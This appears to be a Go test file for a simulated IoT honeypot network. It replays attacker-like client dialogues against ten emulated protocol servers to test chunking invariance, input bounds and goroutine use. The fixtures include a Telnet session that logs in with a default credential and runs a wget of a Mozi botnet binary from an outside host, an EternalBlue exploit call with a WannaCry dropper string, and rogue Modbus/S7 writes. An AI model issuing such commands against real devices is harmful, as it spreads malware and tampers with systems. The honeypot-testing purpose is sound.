package honeypot

// stepper_test.go holds the properties every stream server must keep now
// that a Stepper is the only way one executes: where the client's writes
// fall between frames changes nothing (chunking invariance), a peer cannot
// make a session hold more unparsed input than the protocol's cap, and no
// conversation costs a goroutine.

import (
	"bytes"
	"context"
	"errors"
	"io"
	"reflect"
	"runtime"
	"sync"
	"testing"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/protocols/amqp"
	"openhire/internal/protocols/ftp"
	httpx "openhire/internal/protocols/http"
	"openhire/internal/protocols/modbus"
	"openhire/internal/protocols/mqtt"
	"openhire/internal/protocols/s7"
	"openhire/internal/protocols/smb"
	"openhire/internal/protocols/ssh"
	"openhire/internal/protocols/telnet"
	"openhire/internal/protocols/tr069"
	"openhire/internal/protocols/xmpp"
)

// streamCase is one of the ten stream servers the profiles deploy, the real
// client dialogue its transcript is recorded from, and the most unparsed
// input its stepper may carry between events.
type streamCase struct {
	proto     iot.Protocol
	pot       string // profile that hosts it
	port      uint16
	tailBound int
	client    func(conn io.ReadWriteCloser)
}

var streamCases = []streamCase{
	// Telnet moves input into its own IAC-filtered line buffer and MQTT waits
	// for a whole packet, so 1 MiB (the MQTT packet cap) covers both. SSH
	// holds at most one line and HTTP one request head, both capped at
	// netsim.MaxLine; the transcript's request bodies are shorter than that.
	{iot.ProtoTelnet, "Cowrie", 23, 1 << 20, func(conn io.ReadWriteCloser) {
		ctx := context.Background()
		if ok, _ := telnet.Login(ctx, conn, "root", "xc3511"); ok {
			_, _ = telnet.Exec(conn, "wget http://198.51.100.9/mozi.arm7")
			_, _ = telnet.Exec(conn, "exit")
		}
	}},
	{iot.ProtoSSH, "Cowrie", 22, netsim.MaxLine, func(conn io.ReadWriteCloser) {
		_, _ = ssh.GrabBanner(conn)
		if ok, _ := ssh.Login(conn, "SSH-2.0-libssh", "root", "admin"); ok {
			_, _ = conn.Write([]byte("uname -a\nexit\n"))
		}
	}},
	{iot.ProtoMQTT, "HosTaGe", 1883, 1 << 20, func(conn io.ReadWriteCloser) {
		c := mqtt.NewClient(conn)
		if _, err := c.Connect("c-c6336414", "", ""); err != nil {
			return
		}
		_ = c.Subscribe("$SYS/#")
		_ = c.Publish("arduino/sensors/smoke", []byte("0xdeadbeef"), true)
		_ = c.Disconnect()
	}},
	{iot.ProtoHTTP, "HosTaGe", 80, netsim.MaxLine, func(conn io.ReadWriteCloser) {
		_, _ = httpx.Get(conn, "/")
		_, _ = httpx.Post(conn, "/doLogin", map[string]string{"username": "admin", "password": "admin"})
		_, _ = httpx.Do(conn, "POST", "/upload.php", bytes.Repeat([]byte("MZ"), 300))
	}},
	{iot.ProtoAMQP, "HosTaGe", 5672, 8 + 1<<20, func(conn io.ReadWriteCloser) {
		sess, ok, err := amqp.Connect(conn, "PLAIN", "", "")
		if err != nil || !ok {
			return
		}
		_ = sess.Publish("amq.topic", "queue.data", []byte("poisoned"))
		_ = sess.Publish("amq.fanout", "flood", make([]byte, 512))
		_ = sess.Close()
	}},
	{iot.ProtoXMPP, "ThingPot", 5222, 64 << 10, func(conn io.ReadWriteCloser) {
		if _, _, err := xmpp.ProbeBanner(conn, "philips-hue.local"); err != nil {
			return
		}
		_, _ = xmpp.Authenticate(conn, "PLAIN", "admin", "admin")
		if ok, _ := xmpp.Authenticate(conn, "ANONYMOUS", "", ""); ok {
			_, _ = xmpp.SendStanza(conn, `<iq type='set'><lights state='off'/></iq>`)
			_, _ = conn.Write([]byte("</stream:stream>"))
		}
	}},
	{iot.ProtoFTP, "Dionaea", 21, 8 << 10, func(conn io.ReadWriteCloser) {
		c := ftp.NewClient(conn)
		if _, err := c.ReadReply(); err != nil {
			return
		}
		if ok, _ := c.Login("anonymous", "bot@"); ok {
			_, _ = c.Store("mozi.arm7.bin", []byte("\x7fELF mozi-sample-bytes\r\nwith a line break"))
		}
		c.Quit()
	}},
	{iot.ProtoSMB, "HosTaGe", 445, 4 + 512<<10, func(conn io.ReadWriteCloser) {
		_, _ = smb.Probe(conn)
		_, _ = conn.Write(smb.BuildExploit(smb.KindEternalBlue, []byte("MZ wannacry-dropper")))
		_, _ = smb.Probe(conn)
	}},
	{iot.ProtoModbus, "Conpot", 502, 262, func(conn io.ReadWriteCloser) {
		_ = modbus.WriteSingle(conn, 3, 999)
		_, _ = conn.Write(modbus.BuildRequest(1, 1, 0x63, []byte{0, 0}))
		_, _ = modbus.ReadHolding(conn, 0, 4)
	}},
	{iot.ProtoS7, "Conpot", 102, 8192, func(conn io.ReadWriteCloser) {
		if err := s7.Connect(conn); err != nil {
			return
		}
		_, _ = conn.Write(s7.BuildJob(s7.FuncWrite))
		_, _ = s7.ReadModule(conn)
	}},
}

// tailProbe stands in front of one stream service and records the largest
// unconsumed input its stepper leaves behind when it asks for more.
type tailProbe struct {
	handler netsim.StreamHandler
	inner   netsim.Stepper
	maxTail int
}

func (p *tailProbe) NewStepper() netsim.Stepper {
	p.inner = p.handler.NewStepper()
	return p
}

func (p *tailProbe) Step(c *netsim.ServerConv, ev netsim.ConvEvent) netsim.StepVerdict {
	v := p.inner.Step(c, ev)
	if v == netsim.StepMore && len(c.Input()) > p.maxTail {
		p.maxTail = len(c.Input())
	}
	return v
}

// oneService is a host that answers every TCP port with one handler.
type oneService struct{ handler netsim.StreamHandler }

func (h oneService) StreamService(uint16) netsim.StreamHandler   { return h.handler }
func (oneService) DatagramService(uint16) netsim.DatagramHandler { return nil }

var (
	clientIP = netsim.MustParseIPv4("198.51.100.20")
	hostIP   = netsim.MustParseIPv4("203.0.113.7")
)

// oneHostNetwork serves handler on every port of hostIP and nothing else.
func oneHostNetwork(handler netsim.StreamHandler) *netsim.Network {
	n := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	n.AddProvider(netsim.NewPrefix(hostIP, 32), netsim.HostProviderFunc(func(netsim.IPv4) netsim.Host {
		return oneService{handler: handler}
	}))
	return n
}

// session is a fresh deployment with c's service behind a tailProbe on a
// one-host network, dialed once.
type session struct {
	n     *netsim.Network
	log   *Log
	probe *tailProbe
	conn  *netsim.ServiceConn
}

func openSession(tb testing.TB, c streamCase) *session {
	tb.Helper()
	pots, log := DeployAll(netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart)),
		netsim.MustParseIPv4("130.226.56.10"))
	var handler netsim.StreamHandler
	for _, p := range pots {
		if p.Name == c.pot {
			handler = p.StreamService(c.port)
		}
	}
	if handler == nil {
		tb.Fatalf("%s does not serve %s on port %d", c.pot, c.proto, c.port)
	}
	s := &session{log: log, probe: &tailProbe{handler: handler}}
	s.n = oneHostNetwork(s.probe)
	conn, err := s.n.Dial(context.Background(), clientIP, netsim.Endpoint{IP: hostIP, Port: c.port}, netsim.ProbeOptions{})
	if err != nil {
		tb.Fatal(err)
	}
	s.conn = conn
	return s
}

// recordingConn keeps a copy of every client write.
type recordingConn struct {
	io.ReadWriteCloser
	writes [][]byte
}

func (r *recordingConn) Write(p []byte) (int, error) {
	r.writes = append(r.writes, append([]byte(nil), p...))
	return r.ReadWriteCloser.Write(p)
}

// transcripts records each case's client writes once, by running the real
// client against the real server.
func transcripts(tb testing.TB) [][][]byte {
	recordOnce.Do(func() {
		recorded = make([][][]byte, len(streamCases))
		for i, c := range streamCases {
			s := openSession(tb, c)
			rc := &recordingConn{ReadWriteCloser: s.conn}
			c.client(rc)
			_ = s.conn.Close()
			recorded[i] = rc.writes
		}
	})
	return recorded
}

var (
	recordOnce sync.Once
	recorded   [][][]byte
)

// replayResult is everything a conversation leaves behind.
type replayResult struct {
	output  []byte
	events  []Event
	maxTail int
}

// replay feeds chunks to a fresh server, one client write (hence one EvData)
// per chunk, and collects what comes back.
func replay(tb testing.TB, c streamCase, chunks [][]byte) replayResult {
	tb.Helper()
	s := openSession(tb, c)
	for _, chunk := range chunks {
		if _, err := s.conn.Write(chunk); err != nil {
			break // the server ended the session
		}
	}
	output, err := io.ReadAll(s.conn)
	if err != nil && !errors.Is(err, netsim.ErrWouldBlock) {
		tb.Fatalf("%s: reading server output: %v", c.proto, err)
	}
	_ = s.conn.Close()
	s.n.Quiesce()
	return replayResult{output: output, events: s.log.Events(), maxTail: s.probe.maxTail}
}

// splitBy cuts raw at sizes drawn from splits (1..64 bytes each, cycling);
// no splits means one chunk.
func splitBy(raw, splits []byte) [][]byte {
	if len(splits) == 0 {
		return [][]byte{raw}
	}
	var chunks [][]byte
	for i := 0; len(raw) > 0; i++ {
		n := min(1+int(splits[i%len(splits)])%64, len(raw))
		chunks = append(chunks, raw[:n])
		raw = raw[n:]
	}
	return chunks
}

func (r replayResult) requireSame(tb testing.TB, c streamCase, name string, want replayResult) {
	tb.Helper()
	if !bytes.Equal(r.output, want.output) {
		tb.Fatalf("%s/%s: server output differs from the whole-write run:\n got %q\nwant %q", c.proto, name, r.output, want.output)
	}
	if !reflect.DeepEqual(r.events, want.events) {
		tb.Fatalf("%s/%s: event sequence differs from the whole-write run:\n got %+v\nwant %+v", c.proto, name, r.events, want.events)
	}
}

func (r replayResult) requireBoundedTail(tb testing.TB, c streamCase, name string) {
	tb.Helper()
	if r.maxTail > c.tailBound {
		tb.Fatalf("%s/%s: stepper carried %d unparsed bytes between events, bound %d", c.proto, name, r.maxTail, c.tailBound)
	}
}

// TestStepperChunkingInvariance: every stream server answers a recorded
// client dialogue with the same bytes and logs the same events whether the
// transcript arrives in the client's own writes, one byte per event, or as a
// single write.
func TestStepperChunkingInvariance(t *testing.T) {
	for i, c := range streamCases {
		writes := transcripts(t)[i]
		raw := bytes.Join(writes, nil)
		if len(writes) < 2 {
			t.Fatalf("%s: recorded only %d client writes", c.proto, len(writes))
		}
		whole := replay(t, c, [][]byte{raw})
		if len(whole.output) == 0 || len(whole.events) == 0 {
			t.Fatalf("%s: whole-write run produced %d output bytes and %d events", c.proto, len(whole.output), len(whole.events))
		}
		whole.requireBoundedTail(t, c, "whole")
		for name, chunks := range map[string][][]byte{
			"recorded": writes,
			"bytewise": splitBy(raw, []byte{0}),
			"ragged":   splitBy(raw, []byte{2, 6, 0, 40, 1}),
		} {
			got := replay(t, c, chunks)
			got.requireSame(t, c, name, whole)
			got.requireBoundedTail(t, c, name)
		}
	}
}

// FuzzStepperChunking splits a (possibly corrupted) transcript at
// fuzz-chosen points: the server must not panic, must answer exactly as it
// does when the same bytes arrive in one write, and must never carry more
// unparsed input than its protocol's cap. mutation is read as (offset-hi,
// offset-lo, value) triples overwriting transcript bytes.
func FuzzStepperChunking(f *testing.F) {
	for i := range streamCases {
		f.Add(uint8(i), []byte{0}, []byte{})                  // bytewise, clean
		f.Add(uint8(i), []byte{7, 1, 30}, []byte{0, 5, 0xFF}) // ragged, one byte corrupted
		f.Add(uint8(i), []byte{3}, []byte{0, 3, 0x7F, 0, 4, 0xFF, 0, 5, 0xFF})
	}
	f.Fuzz(func(t *testing.T, protocolIndex uint8, splits, mutation []byte) {
		i := int(protocolIndex) % len(streamCases)
		c := streamCases[i]
		raw := bytes.Join(transcripts(t)[i], nil)
		for ; len(mutation) >= 3; mutation = mutation[3:] {
			raw[(int(mutation[0])<<8|int(mutation[1]))%len(raw)] = mutation[2]
		}
		whole := replay(t, c, [][]byte{raw})
		whole.requireBoundedTail(t, c, "whole")
		got := replay(t, c, splitBy(raw, splits))
		got.requireSame(t, c, "split", whole)
		got.requireBoundedTail(t, c, "split")
	})
}

// TestEndlessLineEndsSession: a peer that sends 2 MiB without a newline to
// a line-oriented server (SSH) or as an HTTP request head is dropped once it
// has sent more than netsim.MaxLine, and the server never holds more than
// that while it waits.
func TestEndlessLineEndsSession(t *testing.T) {
	for _, c := range streamCases {
		if c.proto != iot.ProtoSSH && c.proto != iot.ProtoHTTP {
			continue
		}
		s := openSession(t, c)
		chunk := bytes.Repeat([]byte{'A'}, 4<<10)
		sent := 0
		for ; sent < 2<<20; sent += len(chunk) {
			if _, err := s.conn.Write(chunk); err != nil {
				break // the server ended the session
			}
		}
		_ = s.conn.Close()
		s.n.Quiesce()
		if sent >= 2<<20 {
			t.Errorf("%s: session still open after 2 MiB without a newline", c.proto)
		}
		if s.probe.maxTail > netsim.MaxLine {
			t.Errorf("%s: held %d bytes waiting for a newline, cap %d", c.proto, s.probe.maxTail, netsim.MaxLine)
		}
	}
}

// TestNoGoroutinePerConversation: a hundred conversations held open at once
// against each stream server — the ten profile services, a TR-069 CPE and a
// wild Telnet honeypot — add no goroutine, and Quiesce returns once they
// close.
func TestNoGoroutinePerConversation(t *testing.T) {
	type target struct {
		name    string
		handler netsim.StreamHandler
		client  func(conn io.ReadWriteCloser)
	}
	var targets []target
	pots, _ := DeployAll(netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart)),
		netsim.MustParseIPv4("130.226.56.10"))
	for _, c := range streamCases {
		for _, p := range pots {
			if p.Name == c.pot {
				targets = append(targets, target{string(c.proto), p.StreamService(c.port), c.client})
			}
		}
	}
	u := iot.NewUniverse(iot.UniverseConfig{
		Seed: 9, Prefix: netsim.MustParsePrefix("100.0.0.0/15"), DensityBoost: 400,
	})
	var cpe, wild netsim.StreamHandler
	for i := uint64(0); i < u.Config().Prefix.Size() && (cpe == nil || wild == nil); i++ {
		ip := u.Config().Prefix.Nth(i)
		if _, ok := u.WildHoneypot(ip); ok {
			if wild == nil {
				wild = u.Host(ip).StreamService(23)
			}
		} else if _, ok := u.ExtensionSpec(ip, iot.ProtoTR069); ok && cpe == nil {
			cpe = u.Host(ip).StreamService(tr069.Port)
		}
	}
	if cpe == nil || wild == nil {
		t.Fatal("universe has no TR-069 CPE or no wild honeypot")
	}
	targets = append(targets,
		target{"tr069", cpe, func(conn io.ReadWriteCloser) { _, _ = tr069.Probe(conn) }},
		target{"wild-honeypot", wild, func(conn io.ReadWriteCloser) {
			_, _ = telnet.Grab(context.Background(), conn)
			_, _ = conn.Write([]byte("root\r\n"))
		}},
	)

	for _, tg := range targets {
		n := oneHostNetwork(tg.handler)
		dst := netsim.Endpoint{IP: hostIP, Port: 1}
		before := runtime.NumGoroutine()
		var open []*netsim.ServiceConn
		for i := 0; i < 100; i++ {
			conn, err := n.Dial(context.Background(), clientIP+netsim.IPv4(i), dst, netsim.ProbeOptions{})
			if err != nil {
				t.Fatalf("%s: dial %d: %v", tg.name, i, err)
			}
			tg.client(conn)
			open = append(open, conn)
		}
		// Not "!=": a goroutine left over from an earlier test may exit meanwhile.
		if got := runtime.NumGoroutine(); got > before {
			t.Fatalf("%s: %d goroutines with 100 conversations open, %d before the first dial", tg.name, got, before)
		}
		for _, conn := range open {
			_ = conn.Close()
		}
		quiesced := make(chan struct{})
		go func() {
			n.Quiesce()
			close(quiesced)
		}()
		select {
		case <-quiesced:
		case <-time.After(5 * time.Second):
			t.Fatalf("%s: Quiesce did not return after every client closed", tg.name)
		}
	}
}
